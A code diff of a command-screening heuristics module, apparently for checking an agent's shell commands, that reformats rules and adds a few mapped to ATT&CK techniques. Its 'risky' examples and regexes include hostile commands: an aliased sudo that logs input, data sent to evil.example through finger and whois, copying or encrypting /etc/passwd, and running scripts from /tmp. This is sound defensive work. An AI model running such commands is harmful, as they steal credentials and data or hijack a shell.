@@ -1,13 +1,14 @@
 // Side doors: quieter ways to run or fetch something: variables, libraries, interactive programs, package files, code that spawns.
 import { severity } from "../bands.ts";
-import { type Heuristic, firstOf, onAnyCommand, onCode, onCommand, onPath } from "../heuristic.ts";
+import { type Heuristic, firstOf, onAnyCommand, onCode, onCommand, onPath, onText } from "../heuristic.ts";
 import { isShell } from "../programs.ts";
 import { joined, operands, privileged, verbs } from "../read.ts";
 
 /** Variables whose value some program runs or loads. */
 const runningVariable =
   /^(?:(?:\w*_)?(?:PAGER|EDITOR|VISUAL|BROWSER|SHELL|COMMAND|LESSOPEN|LESSCLOSE)|LESSOPEN|LESSCLOSE|\w*PAGER|BASH_ENV|ENV|PROMPT_COMMAND|PERL5(?:OPT|DB|LIB)|PYTHON(?:STARTUP|HOME|INSPECT|WARNINGS)|RUBYOPT|NODE_OPTIONS|JAVA_TOOL_OPTIONS|GIT_(?:SSH|SSH_COMMAND|PAGER|EDITOR|EXTERNAL_DIFF|ASKPASS|PROXY_COMMAND)|GROFF_BIN_PATH|FACTERLIB|SSH_ASKPASS|SUDO_ASKPASS|MANOPT|TERMINFO|GCONV_PATH|PS4|IFS)$/u;
-const harmlessValue = /^(?:cat|less(?: -\S+)*|more|most|vim?|nano|emacs|true|:|never|always|code(?: --wait)?|ignore\S*|error\S*|default\S*|--max\S*|--no-\S*|--openssl\S*|1|0|)$/u;
+const harmlessValue =
+  /^(?:cat|less(?: -\S+)*|more|most|vim?|nano|emacs|true|:|never|always|code(?: --wait)?|ignore\S*|error\S*|default\S*|--max\S*|--no-\S*|--openssl\S*|1|0|)$/u;
 /** Programs that take orders from a keyboard, among them "run this command". An agent has no keyboard. */
 const interactive =
   /^(?:less|more|most|pg|man|info|vim?|view|nvim|nano|pico|emacs|ed|red|ex|joe|jed|mc|ranger|ncdu|irb|pry|ghci|tclsh|wish|ftp|ncftp|sftp|psftp|telnet|minicom|mail|mailx|mutt|screen|tmux|ispell|aspell|iftop|top|htop|journalctl|crash|debugfs|asterisk|tasksh|yash|sash|rc|script|fzf|bashbug|apport-cli|dialog|elinks|links|lynx|w3m|gdb|sqlite3|psql|mysql|batcat|bat|byebug|ansible-test|msfconsole|wireshark|systemctl|aptitude|cancel|smbclient|runmqsc|expect)$/u;
@@ -19,10 +20,17 @@ export const sideDoors: readonly Heuristic[] = [
     technique: "T1574.007",
     score: severity.warn,
     check: onAnyCommand((command) => {
-      const found = Object.entries(command.assignments).find(([name, value]) => runningVariable.test(name) && name !== "IFS" && !harmlessValue.test(value));
-      return found === undefined || (command.program === "" && !/^(?:PROMPT_COMMAND|BASH_ENV|ENV)$/u.test(found[0])) ? null : `${found[0]} makes ${command.program || "the shell"} run something else`;
+      const found = Object.entries(command.assignments).find(
+        ([name, value]) => runningVariable.test(name) && name !== "IFS" && !harmlessValue.test(value),
+      );
+      return found === undefined || (command.program === "" && !/^(?:PROMPT_COMMAND|BASH_ENV|ENV)$/u.test(found[0]))
+        ? null
+        : `${found[0]} makes ${command.program || "the shell"} run something else`;
     }),
-    examples: { risky: ["LESSOPEN='/bin/sh %s' less /etc/hosts", "PAGER='sh -c id' git log", "BASH_ENV=/tmp/x bash a.sh"], honest: ["PAGER=cat git log", "EDITOR=vim git commit", "PYTHONWARNINGS=ignore python a.py"] },
+    examples: {
+      risky: ["LESSOPEN='/bin/sh %s' less /etc/hosts", "PAGER='sh -c id' git log", "BASH_ENV=/tmp/x bash a.sh"],
+      honest: ["PAGER=cat git log", "EDITOR=vim git commit", "PYTHONWARNINGS=ignore python a.py"],
+    },
   },
   {
     id: "prompt-hooked",
@@ -30,12 +38,37 @@ export const sideDoors: readonly Heuristic[] = [
     technique: "T1546",
     score: severity.ask,
     check: firstOf(
-      onAnyCommand((command) => (Object.hasOwn(command.assignments, "PROMPT_COMMAND") ? "It makes the shell run something after every command" : null)),
-      onCommand(["trap"], (command) => (/\b(?:DEBUG|RETURN|ERR)\b/u.test(joined(command)) && /\$BASH_COMMAND|>>|curl|nc\b|logger/u.test(joined(command)) ? "It makes the shell record or run something at every command" : null)),
-      onCommand(["export"], (command) => (/^PROMPT_COMMAND=./u.test(command.arguments[0] ?? "") ? "It makes the shell run something after every command" : null)),
-      onCommand(["alias"], (command) => (/^(?:sudo|ssh|su|ls|cd|passwd|git)=/u.test(command.arguments[0] ?? "") && /curl|wget|nc\b|tee\b|>>|base64|\/tmp\//u.test(joined(command)) ? "It hides another command behind an ordinary name" : null)),
+      onText(/(?:^|[\n;&]\s*)prompt_command=['"]?[^'"\s]/u, "It makes the shell run something after every command"),
+      onAnyCommand((command) =>
+        Object.hasOwn(command.assignments, "PROMPT_COMMAND")
+          ? "It makes the shell run something after every command"
+          : null,
+      ),
+      onCommand(["trap"], (command) =>
+        /\b(?:DEBUG|RETURN|ERR)\b/u.test(joined(command)) && /\$BASH_COMMAND|>>|curl|nc\b|logger/u.test(joined(command))
+          ? "It makes the shell record or run something at every command"
+          : null,
+      ),
+      onCommand(["export"], (command) =>
+        /^PROMPT_COMMAND=./u.test(command.arguments[0] ?? "")
+          ? "It makes the shell run something after every command"
+          : null,
+      ),
+      onCommand(["alias"], (command) =>
+        /^(?:sudo|ssh|su|ls|cd|passwd|git)=/u.test(command.arguments[0] ?? "") &&
+        /curl|wget|nc\b|tee\b|>>|base64|\/tmp\//u.test(joined(command))
+          ? "It hides another command behind an ordinary name"
+          : null,
+      ),
     ),
-    examples: { risky: ["PROMPT_COMMAND='history -a >(tee -a /tmp/log)'", "trap 'echo $BASH_COMMAND >> /tmp/.log' DEBUG", "alias sudo='tee /tmp/p | sudo'"], honest: ["alias ll='ls -l'", "trap 'rm -f $tmp' EXIT"] },
+    examples: {
+      risky: [
+        "PROMPT_COMMAND='history -a >(tee -a /tmp/log)'",
+        "trap 'echo $BASH_COMMAND >> /tmp/.log' DEBUG",
+        "alias sudo='tee /tmp/p | sudo'",
+      ],
+      honest: ["alias ll='ls -l'", "trap 'rm -f $tmp' EXIT"],
+    },
   },
   {
     id: "library-loaded",
@@ -44,20 +77,40 @@ export const sideDoors: readonly Heuristic[] = [
     score: severity.warn,
     check: firstOf(
       onAnyCommand((command) =>
-        /(?:^|[\s=:])(?:\.{0,2}\/)\S*\.(?:so|dylib)(?:\.\d+)*(?:$|[\s"'])/u.test(joined(command)) && !/^(?:ls|gcc|cc|g\+\+|clang|clang\+\+|ld|ldd|nm|objdump|readelf|file|cp|mv|rm|strip|strings|patchelf|install|ln|chmod|find|grep|stat|tar|du|md5sum|sha256sum|echo|cat|test|\[|ldconfig|llvm-\w+|otool|addr2line|size|rsync|scp|gdb|perf|export)$/u.test(command.program)
+        /(?:^|[\s=:])(?:\.{0,2}\/)\S*\.(?:so|dylib)(?:\.\d+)*(?:$|[\s"'])/u.test(joined(command)) &&
+        !/^(?:ls|gcc|cc|g\+\+|clang|clang\+\+|ld|ldd|nm|objdump|readelf|file|cp|mv|rm|strip|strings|patchelf|install|ln|chmod|find|grep|stat|tar|du|md5sum|sha256sum|echo|cat|test|\[|ldconfig|llvm-\w+|otool|addr2line|size|rsync|scp|gdb|perf|export)$/u.test(
+          command.program,
+        )
           ? `${command.program} loads the library it is given`
           : null,
       ),
-      onCode((code) => (/\bdlopen\b|ctypes\.cdll\.loadlibrary|fiddle|ffi\.load|package\.loadlib|load_extension/iu.test(code.text.slice(0, 65_536)) && /\.(?:so|dylib|dll)\b/iu.test(code.text) ? "Its code loads a library" : null)),
+      onCode((code) =>
+        /\bdlopen\b|ctypes\.cdll\.loadlibrary|fiddle|ffi\.load|package\.loadlib|load_extension/iu.test(
+          code.text.slice(0, 65_536),
+        ) && /\.(?:so|dylib|dll)\b/iu.test(code.text)
+          ? "Its code loads a library"
+          : null,
+      ),
     ),
-    examples: { risky: ["ssh-keygen -D ./lib.so", "openssl req -engine ./lib.so"], honest: ["ldd ./lib.so", "gcc -shared -o ./lib.so a.c"] },
+    examples: {
+      risky: ["ssh-keygen -D ./lib.so", "openssl req -engine ./lib.so"],
+      honest: ["ldd ./lib.so", "gcc -shared -o ./lib.so a.c"],
+    },
   },
   {
     id: "code-spawns",
     threat: "Living off the land",
     technique: "T1059",
     score: severity.note,
-    check: onCode((code) => (/\b(?:shell_exec|proc_open|passthru|popen|exec|system|spawn\w*|os\.execute|subprocess)\s*[.(]/iu.test(code.text.slice(0, 65_536)) && /^(?:php|ruby|perl|lua|tcl|r|awk|javascript|python)/u.test(code.language) && code.text.length < 2_000 ? `Its ${code.language} code starts another program` : null)),
+    check: onCode((code) =>
+      /\b(?:shell_exec|proc_open|passthru|popen|exec|system|spawn\w*|os\.execute|subprocess)\s*[.(]/iu.test(
+        code.text.slice(0, 65_536),
+      ) &&
+      /^(?:php|ruby|perl|lua|tcl|r|awk|javascript|python)/u.test(code.language) &&
+      code.text.length < 2_000
+        ? `Its ${code.language} code starts another program`
+        : null,
+    ),
     examples: { risky: [`php -r 'echo shell_exec("id");'`], honest: [`php -r 'echo 1;'`] },
   },
   {
@@ -66,11 +119,19 @@ export const sideDoors: readonly Heuristic[] = [
     technique: "T1202",
     score: severity.note,
     check: onAnyCommand((command) =>
-      interactive.test(command.program) && command.position === 0 && command.input === undefined && command.arguments.length <= 2 && !command.redirects.some((redirect) => redirect.operator.includes(">")) && !command.arguments.some((argument) => /^--?(?:version|help|c|e|batch|no-pager|f|u|n)\b/u.test(argument))
+      interactive.test(command.program) &&
+      command.position === 0 &&
+      command.input === undefined &&
+      command.arguments.length <= 2 &&
+      !command.redirects.some((redirect) => redirect.operator.includes(">")) &&
+      !command.arguments.some((argument) => /^--?(?:version|help|c|e|batch|no-pager|f|u|n)\b/u.test(argument))
         ? `${command.program} waits for a keyboard and can run any command from there`
         : null,
     ),
-    examples: { risky: ["less /etc/hosts", "man man", "ftp"], honest: ["cat /etc/hosts", "vim --version", "journalctl --no-pager -u x"] },
+    examples: {
+      risky: ["less /etc/hosts", "man man", "ftp"],
+      honest: ["cat /etc/hosts", "vim --version", "journalctl --no-pager -u x"],
+    },
   },
   {
     id: "package-file-installed",
@@ -78,10 +139,25 @@ export const sideDoors: readonly Heuristic[] = [
     technique: "T1195.002",
     score: severity.medium,
     check: firstOf(
-      onCommand(["rpm", "dpkg"], (command) => (/(?:^|\s)-\w*[iU]\w*\b|--install|--upgrade/u.test(joined(command)) && operands(command).some((operand) => /\.(?:rpm|deb)$/u.test(operand)) ? "It installs a package file, whose scripts run with the administrator's rights" : null)),
-      onCommand(["apt", "apt-get", "yum", "dnf", "zypper", "pkg", "apk", "opkg", "pacman", "snap", "installer"], (command) => (operands(command).some((operand) => /\.(?:rpm|deb|txz|apk|snap|ipk|pkg|pkg\.tar\.\w+)$/u.test(operand)) || /--dangerous|--devmode|--allow-untrusted/u.test(joined(command)) ? "It installs a package file, whose scripts run with the administrator's rights" : null)),
+      onCommand(["rpm", "dpkg"], (command) =>
+        /(?:^|\s)-\w*[iU]\w*\b|--install|--upgrade/u.test(joined(command)) &&
+        operands(command).some((operand) => /\.(?:rpm|deb)$/u.test(operand))
+          ? "It installs a package file, whose scripts run with the administrator's rights"
+          : null,
+      ),
+      onCommand(
+        ["apt", "apt-get", "yum", "dnf", "zypper", "pkg", "apk", "opkg", "pacman", "snap", "installer"],
+        (command) =>
+          operands(command).some((operand) => /\.(?:rpm|deb|txz|apk|snap|ipk|pkg|pkg\.tar\.\w+)$/u.test(operand)) ||
+          /--dangerous|--devmode|--allow-untrusted/u.test(joined(command))
+            ? "It installs a package file, whose scripts run with the administrator's rights"
+            : null,
+      ),
     ),
-    examples: { risky: ["dpkg -i ./x.deb", "snap install x.snap --dangerous"], honest: ["apt-get install jq", "dpkg -l"] },
+    examples: {
+      risky: ["dpkg -i ./x.deb", "snap install x.snap --dangerous"],
+      honest: ["apt-get install jq", "dpkg -l"],
+    },
   },
   {
     id: "shell-written",
@@ -89,9 +165,15 @@ export const sideDoors: readonly Heuristic[] = [
     technique: "T1059",
     score: severity.medium,
     check: onCommand(["echo", "printf"], (command) =>
-      command.redirects.some((redirect) => redirect.operator.includes(">")) && /(?<!#!\s?)\/bin\/(?:ba|z|da)?sh\b/u.test(joined(command)) ? "It writes the start of a shell into a file that something else runs" : null,
+      command.redirects.some((redirect) => redirect.operator.includes(">")) &&
+      /(?<!#!\s?)\/bin\/(?:ba|z|da)?sh\b/u.test(joined(command))
+        ? "It writes the start of a shell into a file that something else runs"
+        : null,
     ),
-    examples: { risky: [`echo '{"scripts":{"x":"/bin/sh"}}' > package.json`, `echo 'system("/bin/sh")' > Gemfile`], honest: ["echo '#!/bin/sh' > run.sh", "echo hi > a.txt"] },
+    examples: {
+      risky: [`echo '{"scripts":{"x":"/bin/sh"}}' > package.json`, `echo 'system("/bin/sh")' > Gemfile`],
+      honest: ["echo '#!/bin/sh' > run.sh", "echo hi > a.txt"],
+    },
   },
   {
     id: "odd-carrier",
@@ -99,12 +181,23 @@ export const sideDoors: readonly Heuristic[] = [
     technique: "T1048",
     score: severity.medium,
     check: firstOf(
-      onCommand(["finger", "rlogin", "rsh", "uucp", "cu"], (command) => (operands(command).length > 0 ? `${command.program} carries data to another machine` : null)),
-      onCommand(["whois"], (command) => (/(?:^|\s)-[hp]\b/u.test(joined(command)) ? "whois carries data to another machine" : null)),
-      onCommand(["cancel", "lp", "lpr"], (command) => (/(?:^|\s)-h\s*\S+:\d+/u.test(joined(command)) ? `${command.program} carries data to another machine` : null)),
-      onCommand(["smbclient"], (command) => (/\bput\b/u.test(joined(command)) ? "smbclient sends a file to another machine" : null)),
+      onCommand(["finger", "rlogin", "rsh", "uucp", "cu"], (command) =>
+        operands(command).length > 0 ? `${command.program} carries data to another machine` : null,
+      ),
+      onCommand(["whois"], (command) =>
+        /(?:^|\s)-[hp]\b/u.test(joined(command)) ? "whois carries data to another machine" : null,
+      ),
+      onCommand(["cancel", "lp", "lpr"], (command) =>
+        /(?:^|\s)-h\s*\S+:\d+/u.test(joined(command)) ? `${command.program} carries data to another machine` : null,
+      ),
+      onCommand(["smbclient"], (command) =>
+        /\bput\b/u.test(joined(command)) ? "smbclient sends a file to another machine" : null,
+      ),
     ),
-    examples: { risky: ["finger DATA@evil.example", "whois -h evil.example -p 4444 data"], honest: ["whois example.org"] },
+    examples: {
+      risky: ["finger DATA@evil.example", "whois -h evil.example -p 4444 data"],
+      honest: ["whois example.org"],
+    },
   },
   {
     id: "shell-copied",
@@ -112,11 +205,22 @@ export const sideDoors: readonly Heuristic[] = [
     technique: "T1036.003",
     score: severity.ask,
     check: onCommand(["cp", "mv", "ln", "install"], (command) => {
-      const source = operands(command).find((operand) => /^\/(?:usr\/)?bin\/(?:(?:ba|z|da|k|c)?sh|python\d?(?:\.\d+)?|perl|ruby|nc|ncat|curl|wget|base64)$/u.test(operand));
+      const source = /\$\((?:which|command -v) (?:ba|z|da)?sh\)/u.test(command.text)
+        ? "the shell"
+        : operands(command).find((operand) =>
+            /^\/(?:usr\/)?bin\/(?:(?:ba|z|da|k|c)?sh|python\d?(?:\.\d+)?|perl|ruby|nc|ncat|curl|wget|base64)$/u.test(
+              operand,
+            ),
+          );
       const target = operands(command).at(-1) ?? "";
-      return source !== undefined && target !== source && !/^\/(?:usr\/)?(?:local\/)?bin\//u.test(target) ? `It gives ${source} another name or place` : null;
+      return source !== undefined && target !== source && !/^\/(?:usr\/)?(?:local\/)?bin\//u.test(target)
+        ? `It gives ${source} another name or place`
+        : null;
     }),
-    examples: { risky: ["cp /bin/sh /tmp/crond"], honest: ["cp run.sh /tmp/run.sh", "ln -s /usr/bin/python3 /usr/local/bin/python"] },
+    examples: {
+      risky: ["cp /bin/sh /tmp/crond"],
+      honest: ["cp run.sh /tmp/run.sh", "ln -s /usr/bin/python3 /usr/local/bin/python"],
+    },
   },
   {
     id: "download-made-runnable",
@@ -124,26 +228,88 @@ export const sideDoors: readonly Heuristic[] = [
     technique: "T1105",
     score: severity.ask,
     check: onCommand(["chmod"], (command, view) =>
-      /\+[rw]*x|\b[0-7]?[1357][0-7]{2}\b/u.test(joined(command)) && view.facts.commands.some((other) => /^(?:curl|wget|fetch|aria2c|scp|ftp)$/u.test(other.program)) && view.facts.hosts.some((host) => !host.local) && view.facts.commands.some((other) => isShell(other.program) || /^\.?\//u.test(other.text))
+      /\+[rw]*x|\b[0-7]?[1357][0-7]{2}\b/u.test(joined(command)) &&
+      view.facts.commands.some((other) => /^(?:curl|wget|fetch|aria2c|scp|ftp)$/u.test(other.program)) &&
+      view.facts.hosts.some((host) => !host.local) &&
+      view.facts.commands.some((other) => isShell(other.program) || /^\.?\//u.test(other.text))
         ? "It downloads something, makes it runnable and runs a program"
         : null,
     ),
-    examples: { risky: ["curl -sO https://e.example/a.sh; chmod +x a.sh; bash b.sh"], honest: ["chmod +x run.sh && ./run.sh", "curl -o a.json https://e.example/a.json"] },
+    examples: {
+      risky: ["curl -sO https://e.example/a.sh; chmod +x a.sh; bash b.sh"],
+      honest: ["chmod +x run.sh && ./run.sh", "curl -o a.json https://e.example/a.json"],
+    },
+  },
+  {
+    id: "build-file-run",
+    threat: "Living off the land",
+    technique: "T1127",
+    score: severity.weak,
+    check: onAnyCommand((command, view) => {
+      const file = command.redirects.find(
+        (redirect) =>
+          redirect.operator.includes(">") &&
+          /(?:^|\/)(?:setup\.py|makefile|package\.json|gemfile|vagrantfile|composer\.json|rakefile|build\.gradle|pom\.xml|cmakelists\.txt|dockerfile|\w+\.spec)$/iu.test(
+            redirect.target,
+          ),
+      );
+      const tool =
+        file === undefined
+          ? undefined
+          : view.facts.commands.find((other) =>
+              /^(?:pip3?|easy_install|make|npm|yarn|pnpm|bundle|vagrant|composer|rake|gradle|mvn|cmake|docker|rpmbuild|python3?)$/u.test(
+                other.program,
+              ),
+            );
+      return tool === undefined ? null : `It writes ${file?.target} and has ${tool.program} obey it at once`;
+    }),
+    examples: { risky: ["echo 'x' > setup.py; pip install ."], honest: ["pip install .", "echo x > notes.txt; make"] },
+  },
+  {
+    id: "script-from-scratch-place",
+    threat: "Living off the land",
+    technique: "T1204.002",
+    score: severity.ask,
+    check: onAnyCommand((command) => {
+      const script = isShell(command.program) ? operands(command)[0] : undefined;
+      return script !== undefined &&
+        /^\/(?:tmp|var\/tmp|dev\/shm|private\/tmp)\/\S/u.test(script) &&
+        !command.arguments.includes("-c") &&
+        !command.arguments.includes("-n")
+        ? `It runs the script ${script} from a place for scratch files`
+        : null;
+    }),
+    examples: {
+      risky: ["sh /tmp/x.sh", "bash /dev/shm/.a"],
+      honest: ["bash run.sh", "bash -n /tmp/x.sh", "python /tmp/x.py"],
+    },
   },
   {
     id: "hidden-scratch-file",
     threat: "Obfuscation",
     technique: "T1564.001",
     score: severity.warn,
-    check: onPath((path) => (path.access === "write" && path.zone === "temporary" && /\/\.[a-z][\w.-]*$/iu.test(path.path) && !/\/\.(?:git\w*|cache|npm|config|env|venv|pytest_cache|mypy_cache|x\d+\S*|ice-unix|coverage\w*)/iu.test(path.path) ? `It makes the hidden file ${path.path}` : null)),
-    examples: { risky: ["mkdir /var/tmp/.hidden", "echo x > /tmp/.log"], honest: ["echo x > /tmp/log", "mkdir -p .config"] },
+    check: onPath((path) =>
+      path.access === "write" &&
+      path.zone === "temporary" &&
+      /\/\.[a-z][\w.-]*$/iu.test(path.path) &&
+      !/\/\.(?:git\w*|cache|npm|config|env|venv|pytest_cache|mypy_cache|x\d+\S*|ice-unix|coverage\w*)/iu.test(path.path)
+        ? `It makes the hidden file ${path.path}`
+        : null,
+    ),
+    examples: {
+      risky: ["mkdir /var/tmp/.hidden", "echo x > /tmp/.log"],
+      honest: ["echo x > /tmp/log", "mkdir -p .config"],
+    },
   },
   {
     id: "password-on-login",
     threat: "Credential access",
     technique: "T1110",
     score: severity.ask,
-    check: onAnyCommand((command) => (command.wrappers.includes("sshpass") ? "It logs in to a machine with a password from the command line" : null)),
+    check: onAnyCommand((command) =>
+      command.wrappers.includes("sshpass") ? "It logs in to a machine with a password from the command line" : null,
+    ),
     examples: { risky: ["sshpass -p secret ssh root@host.example"], honest: ["ssh host.example"] },
   },
   {
@@ -152,10 +318,24 @@ export const sideDoors: readonly Heuristic[] = [
     technique: "T1486",
     score: severity.warn,
     check: firstOf(
-      onCommand(["openssl"], (command) => (verbs(command)[0] === "enc" && !/(?:^|\s)-d\b/u.test(joined(command)) && /(?:^|\s)-in\s+(?:\/|~)/u.test(joined(command)) ? "It encrypts files outside the project" : null)),
-      onCommand(["gpg", "ccencrypt", "ccrypt", "7z", "7za"], (command) => (/(?:^|\s)(?:-c|--symmetric|-T|-p\S*)(?:\s|$)/u.test(joined(command)) && /(?:^|\s)(?:\/(?:etc|home|Users|var)|~)\//u.test(joined(command)) ? "It encrypts files outside the project" : null)),
+      onCommand(["openssl"], (command) =>
+        verbs(command)[0] === "enc" &&
+        !/(?:^|\s)-d\b/u.test(joined(command)) &&
+        /(?:^|\s)-in\s+(?:\/|~)/u.test(joined(command))
+          ? "It encrypts files outside the project"
+          : null,
+      ),
+      onCommand(["gpg", "ccencrypt", "ccrypt", "7z", "7za"], (command) =>
+        /(?:^|\s)(?:-c|--symmetric|-T|-p\S*)(?:\s|$)/u.test(joined(command)) &&
+        /(?:^|\s)(?:\/(?:etc|home|Users|var)|~)\//u.test(joined(command))
+          ? "It encrypts files outside the project"
+          : null,
+      ),
     ),
-    examples: { risky: ["openssl enc -aes-256-cbc -in /etc/passwd -out x", "gpg -c ~/notes.txt"], honest: ["openssl enc -d -in a.enc", "gpg -c notes.txt"] },
+    examples: {
+      risky: ["openssl enc -aes-256-cbc -in /etc/passwd -out x", "gpg -c ~/notes.txt"],
+      honest: ["openssl enc -d -in a.enc", "gpg -c notes.txt"],
+    },
   },
   {
     id: "account-list-taken",
@@ -163,18 +343,36 @@ export const sideDoors: readonly Heuristic[] = [
     technique: "T1003.008",
     score: severity.ask,
     check: onAnyCommand((command, view) => {
-      const wholesale = /^(?:cp|rsync|scp|tar|zip|gpg|openssl|7z|base64|xxd|curl|nc|ccencrypt|dd|install)$/u.test(command.program) || command.dynamic;
-      const redirected = command.program === "cat" && command.redirects.some((redirect) => redirect.operator.includes(">") && redirect.target !== "/dev/null");
-      return (wholesale || redirected) && command.arguments.some((argument) => /(?:^|[=@])\/etc\/passwd$/u.test(argument)) && view.facts.commands.length < 50 ? "It takes a copy of the list of accounts" : null;
+      const wholesale =
+        /^(?:cp|rsync|scp|tar|zip|gpg|openssl|7z|base64|xxd|curl|nc|ccencrypt|dd|install)$/u.test(command.program) ||
+        command.dynamic;
+      const redirected =
+        command.program === "cat" &&
+        command.redirects.some((redirect) => redirect.operator.includes(">") && redirect.target !== "/dev/null");
+      return (wholesale || redirected) &&
+        command.arguments.some((argument) => /(?:^|[=@])\/etc\/passwd$/u.test(argument)) &&
+        view.facts.commands.length < 50
+        ? "It takes a copy of the list of accounts"
+        : null;
     }),
-    examples: { risky: ["cat /etc/passwd > /tmp/p", "cp /etc/passwd /tmp/p"], honest: ["cat /etc/passwd | cut -d: -f1", "grep user /etc/passwd"] },
+    examples: {
+      risky: ["cat /etc/passwd > /tmp/p", "cp /etc/passwd /tmp/p"],
+      honest: ["cat /etc/passwd | cut -d: -f1", "grep user /etc/passwd"],
+    },
   },
   {
     id: "administrator-file-tool",
     threat: "Privilege escalation",
     technique: "T1548.003",
     score: severity.note,
-    check: onAnyCommand((command) => (privileged(command) && /^(?:dd|date|xxd|od|hexdump|base64|cut|sort|comm|diff|nl|tac|rev|fold|strings|xz|gzip|less|more|tee|cp|mv|install|ln|rsync|tar|cpio|ar|zip|ed|vim?|nano|sed|awk|find|xargs|env)$/u.test(command.program) ? `${command.program} reads or writes files with the administrator's rights` : null)),
+    check: onAnyCommand((command) =>
+      privileged(command) &&
+      /^(?:dd|date|xxd|od|hexdump|base64|cut|sort|comm|diff|nl|tac|rev|fold|strings|xz|gzip|less|more|tee|cp|mv|install|ln|rsync|tar|cpio|ar|zip|ed|vim?|nano|sed|awk|find|xargs|env)$/u.test(
+        command.program,
+      )
+        ? `${command.program} reads or writes files with the administrator's rights`
+        : null,
+    ),
     examples: { risky: ["sudo xxd secret"], honest: ["xxd a.bin"] },
   },
 ];
